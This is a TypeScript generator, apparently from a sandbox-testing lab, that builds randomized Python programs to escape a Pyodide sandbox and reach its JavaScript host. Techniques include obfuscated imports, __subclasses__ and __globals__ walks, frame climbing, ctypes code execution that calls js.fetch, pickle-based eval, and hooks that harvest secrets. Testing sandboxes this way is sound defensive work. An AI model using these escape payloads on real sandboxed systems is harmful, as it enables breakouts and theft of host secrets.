/**
 * Acts that reach for what is outside: each family gets hold of something by ways of its own and hands it to
 * `loot`, which uses and prints it.
 */
import type { SeededRandom } from "@/base/seeded-random";
import { hideWord, INNER_NAMES, MODULES } from "@/lab/attack/programs/grammar/hostile-words";

/** Python lines of one act. */
export type WriteAct = (random: SeededRandom) => string;

const OUTWARD = [
  "js",
  "pyodide_js",
  "pyodide.http",
  "pyodide.code",
  "sys",
  "_pyodide_core",
] as const;

/** Half of them are those that really lead to JavaScript. */
function drawModule(random: SeededRandom): string {
  return random.pick([() => random.pick(OUTWARD), () => random.pick(MODULES)])();
}

function importIt(random: SeededRandom): string {
  const name = drawModule(random);
  const hidden = hideWord(name, random);
  return random.pick([
    `import ${name} as got`,
    `got = __import__(${hidden}, None, None, ["x"])`,
    `import importlib\ngot = importlib.import_module(${hidden})`,
    `got = getattr(__builtins__, ${hideWord("__import__", random)})(${hidden})`,
    `got = __builtins__[${hideWord("__import__", random)}](${hidden})`,
    `scope = {}\nexec("import " + ${hidden} + " as it", scope)\ngot = scope["it"]`,
    `got = eval("__import__(" + repr(${hidden}) + ")")`,
    `import sys\ngot = sys.modules[${hidden}]`,
    `import importlib.util as u\nspec = u.find_spec(${hidden})\ngot = u.module_from_spec(spec)\nspec.loader.exec_module(got)`,
    `got = __loader__.load_module(${hidden})`,
    `import builtins\ngot = builtins.__import__(${hidden})`,
    `import sys\nfor finder in sys.meta_path:\n    spec = finder.find_spec(${hidden}, None)\n    if spec is not None:\n        got = spec.loader.load_module(${hidden})\n        break`,
  ]);
}

const STARTS = [
  "()",
  '""',
  "print",
  "InteractionObject",
  "InteractionObject.pickup",
  "ActionFailed",
  "world_call",
  "(lambda: 0)",
  "(n for n in [1])",
  "type",
  "super",
  "[].append",
  "len",
] as const;

function readName(value: string, name: string, random: SeededRandom): string {
  const hidden = hideWord(name, random);
  return random.pick([
    `${value}.${name}`,
    `getattr(${value}, ${hidden})`,
    `object.__getattribute__(${value}, ${hidden})`,
    `vars(${value})[${hidden}]`,
    `__import__("operator").attrgetter(${hidden})(${value})`,
    `type(${value}).__dict__[${hidden}].__get__(${value})`,
  ]);
}

function chainNames(random: SeededRandom): string {
  const lines = [`got = ${random.pick(STARTS)}`];
  for (let step = random.integer(1, 5); step > 0; step -= 1) {
    const next = readName("got", random.pick(INNER_NAMES), random);
    lines.push(`try:\n    got = ${next}\nexcept Exception:\n    pass`);
  }
  return lines.join("\n");
}

function searchClasses(random: SeededRandom): string {
  const all = random.pick([
    "().__class__.__base__.__subclasses__()",
    `getattr(object, ${hideWord("__subclasses__", random)})()`,
    "type.__subclasses__(type)",
    "[c for b in object.__subclasses__() for c in b.__subclasses__()]",
  ]);
  return `for each in ${all}:\n    try:\n        scope = ${readName("each.__init__", "__globals__", random)}\n        inside = scope["__builtins__"]\n        got = (inside["__import__"] if isinstance(inside, dict) else inside.__import__)(${hideWord("js", random)})\n        break\n    except Exception:\n        pass`;
}

function climbFrames(random: SeededRandom): string {
  const frame = random.pick([
    `__import__("sys")._getframe(${random.integer(0, 2)})`,
    `[e.__traceback__.tb_frame for e in [fail()]][0]`,
    "(n for n in [1]).gi_frame",
    `__import__("inspect").currentframe()`,
    `list(__import__("sys")._current_frames().values())[0]`,
    "coroutine().cr_frame",
  ]);
  const take = random.pick([
    `got = frame.f_builtins["__import__"](${hideWord("js", random)})`,
    `got = frame.f_globals`,
    `frame.f_globals["LURE"] = "changed"\ngot = frame.f_locals`,
    `got = frame.f_code.replace(co_consts=(LURE,))`,
  ]);
  return `def fail():\n    try:\n        1 / 0\n    except ZeroDivisionError as error:\n        return error\nasync def coroutine():\n    pass\nframe = ${frame}\nwhile frame.f_back is not None:\n    frame = frame.f_back\n${take}`;
}

function collect(random: SeededRandom): string {
  return random.pick([
    `import gc\nfor each in gc.get_objects():\n    if type(each).__name__ in ("JsProxy", "ProgramRun", "Bridge"):\n        loot(each)\ngot = None`,
    `import gc\ngot = gc.get_referrers(InteractionObject)`,
    `import gc\ngot = [m for m in gc.get_objects() if isinstance(m, dict) and "world_call" in m]`,
    `import ctypes\ngot = ctypes.pythonapi.PyRun_SimpleString(b"import js; js.fetch(" + repr(HIT).encode() + b")")`,
    `import ctypes\ngot = ctypes.string_at(id(print), 64)`,
  ]);
}

function traceInside(random: SeededRandom): string {
  const set = random.pick(["settrace", "setprofile"]);
  return random.pick([
    `import sys\ndef spy(frame, event, arg):\n    loot(frame.f_globals.get("run"))\n    loot(frame.f_builtins)\n    return spy\nsys.${set}(spy)\nInteractionObject("Mug")\nsys.${set}(None)\ngot = None`,
    `import sys\nsys.addaudithook(lambda event, args: loot(args))\nopen("/x")\ngot = None`,
    `import sys\nsys.excepthook = lambda *all: loot(all)\nsys.unraisablehook = lambda it: loot(it)\nclass Gone:\n    def __del__(self):\n        raise Exception(LURE)\nGone()\ngot = None`,
    `import sys\nsys.displayhook = loot\ngot = sys.stdout.run`,
  ]);
}

function formatInside(random: SeededRandom): string {
  const chain = random.pick([
    "__class__.__init__.__globals__",
    "pickup.__globals__[world_call]",
    "__class__.__mro__",
    "_call.__globals__[__builtins__]",
  ]);
  return random.pick([
    `got = "{0.${chain}}".format(InteractionObject("Mug"))`,
    `import string\ngot = string.Formatter().get_field("0.${chain}", [InteractionObject("Mug")], {})`,
    `class Map(dict):\n    def __missing__(self, name):\n        return __import__(name)\ngot = "{js.pageSecret}".format_map(Map())`,
    `class Spec:\n    def __format__(self, spec):\n        return str(eval(spec))\ngot = f"{Spec():__import__('js')}"`,
    `got = "%(${hideWord("js", random).length})s" % InteractionObject.__dict__`,
  ]);
}

function trickClasses(random: SeededRandom): string {
  const name = hideWord("js", random);
  return random.pick([
    `class Meta(type):\n    def __getattr__(cls, name):\n        return __import__(name)\nclass It(metaclass=Meta):\n    pass\ngot = It.js`,
    `class Meta(type):\n    @classmethod\n    def __prepare__(meta, *all):\n        return __import__(${name}).__dict__\nclass It(metaclass=Meta):\n    pass\ngot = It`,
    `class It:\n    def __set_name__(self, owner, name):\n        loot(__import__(name))\nclass Owner:\n    js = It()\ngot = None`,
    `class It:\n    def __class_getitem__(cls, name):\n        return __import__(name)\ngot = It[${name}]`,
    `class It:\n    pass\nit = It()\nit.__class__ = type(InteractionObject("Mug"))\ngot = it.__dict__`,
    `class It(str):\n    def __eq__(self, other):\n        loot(other)\n        return True\n    __hash__ = str.__hash__\nInteractionObject(It("Mug")).pickup()\ngot = None`,
    `class It:\n    def __getattribute__(self, name):\n        return __import__(${name})\ngot = It().fetch`,
    `class It:\n    def __instancecheck__(cls, it):\n        loot(it)\n        return True\nmatch InteractionObject("Mug"):\n    case object(__class__=got):\n        loot(got.__init__.__globals__)`,
  ]);
}

function decorate(random: SeededRandom): string {
  const name = hideWord("js", random);
  return random.pick([
    `@__import__\n@(lambda f: ${name})\ndef got():\n    pass`,
    `@eval\n@"__import__('js')".format\ndef got():\n    pass`,
    `import functools\ngot = functools.reduce(getattr, ["__class__", "__mro__"], print)`,
    `import functools\n@functools.singledispatch\ndef f(it):\n    return __import__(${name})\ngot = f(1)`,
    `import functools\ngot = functools.partial(__import__, ${name})()`,
    `import dataclasses\ngot = dataclasses.make_dataclass("It", [("a", int, dataclasses.field(default_factory=lambda: __import__(${name})))])().a`,
    `import typing\nclass It:\n    pass\nIt.__annotations__ = {"a": "__import__('js')"}\ngot = typing.get_type_hints(It)["a"]`,
    `import copy\nclass It:\n    def __reduce_ex__(self, n):\n        return (__import__, (${name},))\ngot = copy.copy(It())`,
    `import pickle\nclass It:\n    def __reduce__(self):\n        return (eval, ("__import__('js')",))\ngot = pickle.loads(pickle.dumps(It()))`,
    `import json\ngot = json.loads('{"__class__": "js"}', object_hook=lambda it: __import__(it["__class__"]))`,
    `import re\ngot = re.sub("js", lambda found: str(__import__(found.group())), "js")`,
    `import collections\ngot = collections.defaultdict(lambda: __import__(${name}))[0]`,
  ]);
}

function leaveLater(random: SeededRandom): string {
  const later = `lambda *all: loot(__import__(${hideWord("js", random)}))`;
  return random.pick([
    `import atexit\natexit.register(${later})\ngot = None`,
    `import weakref\nclass It:\n    pass\nit = It()\nweakref.finalize(it, ${later})\ndel it\ngot = None`,
    `class It:\n    def __del__(self):\n        (${later})()\nIt()\ngot = None`,
    `import threading\nthreading.Thread(target=${later}).start()\ngot = None`,
    `import _thread\n_thread.start_new_thread(${later}, ())\ngot = None`,
    `import asyncio\nasync def f():\n    (${later})()\nasyncio.ensure_future(f())\ngot = None`,
    `import asyncio\nasyncio.get_event_loop().call_later(0.1, ${later})\ngot = None`,
    `import signal\nsignal.signal(signal.SIGALRM, ${later})\nsignal.alarm(1)\ngot = None`,
    `def f():\n    try:\n        yield 1\n    finally:\n        (${later})()\nkept = f()\nnext(kept)\ngot = None`,
    `async def f():\n    return __import__(${hideWord("js", random)})\ntry:\n    f().send(None)\nexcept StopIteration as end:\n    got = end.value`,
    `def f():\n    try:\n        yield\n    except KeyError:\n        yield __import__(${hideWord("js", random)})\nit = f()\nnext(it)\ngot = it.throw(KeyError())`,
    `import concurrent.futures as c\ngot = c.ThreadPoolExecutor().submit(${later}).result()`,
  ]);
}

/** Families of acts whose success is seen by a request or a secret. */
export const REACHING_ACTS: Readonly<Record<string, WriteAct>> = {
  imports: importIt,
  names: chainNames,
  classes: searchClasses,
  frames: climbFrames,
  memory: collect,
  tracing: traceInside,
  formats: formatInside,
  tricks: trickClasses,
  decorators: decorate,
  later: leaveLater,
};
